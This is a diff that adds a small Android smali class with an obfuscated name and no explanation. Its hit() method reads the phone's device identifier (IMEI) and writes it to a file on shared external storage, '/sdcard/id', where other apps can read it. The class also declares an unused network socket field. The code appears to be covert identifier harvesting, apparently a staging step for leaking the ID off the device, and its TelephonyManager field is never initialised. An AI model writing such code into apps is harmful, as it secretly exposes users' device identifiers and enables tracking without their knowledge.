@@ -1,0 +1,27 @@
+.class public La/Main;
+.super Ljava/lang/Object;
+
+.field static telephony:Landroid/telephony/TelephonyManager;
+.field static socket:Ljava/net/Socket;
+
+.method public static entry()V
+    .locals 0
+    invoke-static {}, La/Main;->hit()V
+    return-void
+.end method
+
+.method public static hit()V
+    .locals 10
+    sget-object v0, La/Main;->telephony:Landroid/telephony/TelephonyManager;
+    invoke-virtual {v0}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
+    move-result-object v0
+    const-string v2, "/sdcard/id"
+    new-instance v1, Ljava/io/File;
+    invoke-direct {v1, v2}, Ljava/io/File;-><init>(Ljava/lang/String;)V
+    invoke-static {v1}, Lokio/Okio;->sink(Ljava/io/File;)Lokio/Sink;
+    move-result-object v1
+    invoke-static {v1}, Lokio/Okio;->buffer(Lokio/Sink;)Lokio/BufferedSink;
+    move-result-object v1
+    invoke-interface {v1, v0}, Lokio/BufferedSink;->writeUtf8(Ljava/lang/String;)Lokio/BufferedSink;
+    return-void
+.end method
